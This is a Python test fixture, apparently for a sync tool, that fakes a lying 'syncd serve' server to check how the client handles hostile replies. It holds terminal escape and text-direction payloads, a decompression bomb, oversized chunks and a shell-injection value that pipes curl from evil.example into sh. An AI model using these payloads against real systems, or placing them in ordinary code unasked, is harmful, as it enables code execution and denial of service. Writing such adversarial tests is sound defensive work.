"""A server that lies: it speaks the protocol of `syncd serve`, and says what no honest one says. One attack a name.

Run by sshd as the forced command of a laptop's key: `python lying_server.py ATTACK`. Its frames are made by hand,
because our own messages refuse to hold what it says.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import sys
import tempfile
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import zstandard
from policies import a_draft, tensors

from syncd.shared import codec
from syncd.shared.manifest import Blob, Manifest
from syncd.store import Shared
from syncd.wire import protocol
from syncd.wire.protocol import PREAMBLE, Decoder, Frame, Message

#: Clears the screen, sets the window's title, and turns the text around: what a terminal would obey.
EVIL = "\x1b[2J\x1b]0;owned\x07\u202e\x9b31m"
#: What somebody would paste into a shell.
COMMAND = "3.1.1'; curl evil.example|sh; '"
#: More than a mirror takes.
CHUNKS = 200
CHUNK_BYTES = 4 * 2**20 - 8192
CLAIMED_BYTES = 240 * 2**20

Files = dict[str, bytes]
#: What it shows to who asks for the honest run's slot 0. A picture (kind 2) or poses (kind 1).
SHOWN = {
    "live nan": (2, {"return": float("nan")}, b"\xff\xd8"),
    "live large": (2, {}, b"\xff\xd8" + bytes(100_000)),
    "live kind": (77, {}, b""),
    "live bad kind": (9999, {}, b""),
    "live words": (2, {"task": EVIL, "origin": EVIL, "facts": {EVIL: EVIL}}, b"\xff\xd8"),
    "live scene": (1, {}, bytes(14)),
}


def frame(kind: type[Message], payload: bytes = b"", /, **header: Any) -> bytes:
    """One frame with this header, whatever it says."""
    text = json.dumps(header).encode()
    return struct.pack(">IBH", 3 + len(text) + len(payload), kind.KIND, len(text)) + text + payload


def a_policy(run: str, slot: int = 0, seq: int = 1) -> tuple[dict[str, Any], bytes]:
    """(manifest as a value, blob) as an honest learner makes them."""
    place = Shared(Path(tempfile.gettempdir())).slot(run, slot)
    weights = tensors(seq)
    data = codec.encode(codec.rounded(weights))
    shapes = {name: array.shape for name, array in sorted(weights.items())}
    blob = Blob(
        sha256=hashlib.sha256(data).hexdigest(), bytes=len(data), raw_bytes=codec.raw_bytes(shapes), tensors=shapes
    )
    draft = a_draft(place, 1, seq)
    manifest = Manifest(**{name: getattr(draft, name) for name in type(draft).model_fields}, blob=blob)
    return manifest.model_dump(mode="json"), data


def a_bomb(run: str) -> tuple[dict[str, Any], bytes]:
    """A manifest and a blob of 8 kB that unpacks to what `CLAIMED_BYTES` says."""
    value, _ = a_policy(run)
    shape = [16, CLAIMED_BYTES // 32]
    table = json.dumps([["hidden.weight", shape]], separators=(",", ":")).encode()
    planes = zstandard.ZstdCompressor().compress(np.zeros(CLAIMED_BYTES, np.uint8).tobytes())
    data = b"ANCHPOL1" + struct.pack(">I", len(table)) + table + planes
    value["blob"] |= {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data), "raw_bytes": CLAIMED_BYTES}
    value["blob"]["tensors"] = {"hidden.weight": shape}
    return value, data


def sealed(value: dict[str, Any]) -> bytes:
    """The manifest with a right digest."""
    value = {name: part for name, part in value.items() if name != "digest"}
    text = json.dumps(value, sort_keys=True, separators=(",", ":"))
    return json.dumps(value | {"digest": hashlib.sha256(text.encode()).hexdigest()}).encode()


def policy_frame(value: dict[str, Any], files: Files, data: bytes) -> bytes:
    """OFFERED of this manifest; `files` gets it and its blob."""
    slot = f"v1/runs/{value['run_id']}/{value['slot']}"
    sha256 = value["blob"]["sha256"]
    files[f"{slot}/blobs/{sha256[:2]}/{sha256}"] = data
    path, content = f"{slot}/manifests/{value['attempt']:06d}-{value['seq']:09d}.json", sealed(value)
    files[path] = content
    return offered(path, content)


def offered(path: str, content: bytes) -> bytes:
    """OFFERED of this file."""
    part = {"path": path, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    return frame(protocol.Offered, files=[part])


def a_chunk(number: int) -> bytes:
    """A part of a curve as large as one may be."""
    line = json.dumps({"step": number, "words": "x" * 33_000}).encode() + b"\n"
    return line * (CHUNK_BYTES // len(line))


def shown(attack: str, run: str) -> bytes:
    """One LIVE of this attack."""
    kind, lies, body = SHOWN.get(attack, (2, {}, b"\xff\xd8"))
    header = {
        "at": 1.0, "task": "reach", "episode": 1, "step": 1, "attempt": 0, "origin": "training", "return": 0.0,
        "success": None, "facts": {}, "scene": "a" * 64, "frames": 1, "bodies": 1, "dt": 0.1, "place": [0, 0, 0],
        "unit": 1.0,
    }  # fmt: skip
    text = json.dumps(header | lies).encode()
    payload = zlib.compress(struct.pack(">H", len(text)) + text + body)
    return frame(protocol.LiveBatch, payload, run_id=run, slot=0, lane="any", number=1, kind=kind)


def listing(attack: str, files: Files) -> Iterator[bytes]:
    """What it offers."""
    if attack == "escapes":
        value, data = a_policy("evil-00000000")
        value["run_name"] = EVIL
        yield policy_frame(value, files, data)
        value, data = a_policy("gone-00000000")
        manifests = dict[str, bytes]()
        yield policy_frame(value, manifests, data)
        files |= {path: content for path, content in manifests.items() if "/manifests/" in path}
        value, data = a_policy("wide-00000000")
        yield policy_frame(value | {EVIL: 1}, files, data)
        verdict = {"sha256": "a" * 64, "accepted": False, "reason": EVIL}
        yield frame(protocol.Verdicts, verdicts=[verdict])
    elif attack == "advice":
        value, data = a_policy("evil-00000000")
        value["suite"]["packages"]["metaworld"] = COMMAND
        yield policy_frame(value, files, data)
    elif attack == "bomb":
        value, data = a_bomb("evil-00000000")
        yield policy_frame(value, files, data)
    elif attack == "curves":
        for number in range(CHUNKS):
            path, content = f"v1/runs/evil-00000000/0/metrics/train-{number:06d}.jsonl", a_chunk(number)
            yield offered(path, content)
    value, data = a_policy("honest-00000000")
    yield policy_frame(value, files, data)
    yield frame(protocol.Listed)


def answer(attack: str, heard: Frame, files: Files) -> Iterator[bytes]:
    """What it answers to one frame of the client's."""
    match heard.message:
        case protocol.Hello():
            yield frame(
                protocol.Welcome,
                protocol=protocol.PROTOCOL,
                version=EVIL,
                contributor="anna",
                time=time.time(),
                segment_bytes=2**20,
            )
        case protocol.Listing():
            yield from listing(attack, files)
        case protocol.Get(key=key, path=path, offset=offset):
            if attack == "curves" and "/metrics/" in path:
                data = a_chunk(int(path[-12:-6]))
            elif path in files:
                data = files[path]
            else:
                yield frame(protocol.FileGone, key=key, sentence=EVIL)
                return
            for at in range(offset, len(data), protocol.MAX_PAYLOAD_BYTES):
                payload = data[at : at + protocol.MAX_PAYLOAD_BYTES]
                yield frame(protocol.Data, payload, key=key, offset=at)
            yield frame(protocol.End, key=key, bytes=len(data))
        case protocol.WatchLive(wishes=[_, *_]):
            yield shown(attack, "honest-00000000")
            yield frame(protocol.ShownLive, run_id="honest-00000000", agents=[], sentence=f"nobody {EVIL}")
        case protocol.NeedScene(sha256=sha256, offset=offset):
            yield frame(protocol.SceneSlice, b"another scene", sha256=sha256, offset=offset)
        case protocol.Put(sha256=sha256):
            yield frame(protocol.SegmentRefused, sha256=sha256, reason=EVIL, sentence=EVIL, retry_after_s=60.0)
        case protocol.Ping(n=n):
            yield frame(protocol.Pong, n=n)
        case _:
            return


def survey(attack: str) -> None:
    """The answers to the questions of `syncd setup`, over which it says where its files are."""
    said = {"home": "/home/anna", "path": "/srv/run", "is": "shared", "syncd": "/opt/bin/syncd"}
    said["path" if attack == "setup path" else "syncd"] = f"/srv/{EVIL}/syncd"
    while attack == "setup flood":
        os.write(1, b"x" * 2**20 + b"\n")
    for name, value in said.items():
        print(f"anchorleg-survey:{name}:{value}")


def serve(attack: str, write: Callable[[bytes], object]) -> None:
    """Lie until the client has enough."""
    files: Files = {}
    write(PREAMBLE)
    decoder = Decoder()
    while data := os.read(0, 2**18):
        for heard in decoder.feed(data):
            if attack == "goaway" and isinstance(heard.message, protocol.Hello):
                write(frame(protocol.Goaway, reason=EVIL, sentence=f"gone {EVIL}", retry_after_s=None))
            else:
                for part in answer(attack, heard, files):
                    write(part)


def write_all(data: bytes) -> None:
    """To the client, at once."""
    rest = memoryview(data)
    while rest:
        rest = rest[os.write(1, rest) :]


if __name__ == "__main__":
    which = " ".join(sys.argv[1:])
    if which == "stderr":
        print(f"no {EVIL}", file=sys.stderr)
        sys.exit(1)
    if which.startswith("setup") and "serve" not in os.environ.get("SSH_ORIGINAL_COMMAND", ""):
        survey(which)
    else:
        serve(which, write_all)
